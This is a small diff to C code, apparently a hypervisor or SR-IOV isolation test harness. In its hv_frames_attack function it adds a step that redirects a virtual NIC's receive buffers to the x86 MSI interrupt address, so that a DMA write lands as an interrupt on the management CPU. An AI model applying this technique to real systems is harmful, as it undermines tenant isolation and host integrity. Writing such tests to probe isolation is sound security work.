@@ -20,6 +20,7 @@
 #define PEER_RUN_US     (FAULT_LIMIT_US + 5000000)
 #define MIN_LATE_ROUNDS 5
 #define END_SENDS       3
+#define RAW_MSI_ADDR    0xfee00000u
 
 static struct vf vf;
 static struct frame f;
@@ -59,6 +60,12 @@ static void hv_frames_attack(const struct exitless_boot_info *bi, const uint8_t 
         vf_send_raw(&vf, hpa[i], 64);
         delay_us(FAULT_PACE_US);
     }
+    /* A raw MSI: the neighbour's next reply written at the interrupt address of APIC id 0,
+     * the management CPU's (the NIC's write as an interrupt request, not through MSI-X). */
+    gprintf("%s: RX buffers now at 0x%x: a raw MSI write\n", bi->name, RAW_MSI_ADDR);
+    vf_rx_point_at(&vf, RAW_MSI_ADDR);
+    frame_send(&vf, nb, 0, "EXL-DMA-A2B", 3);
+    delay_us(EXCHANGE_US / 4);
 }
 
 static int faulter(const struct exitless_boot_info *bi)
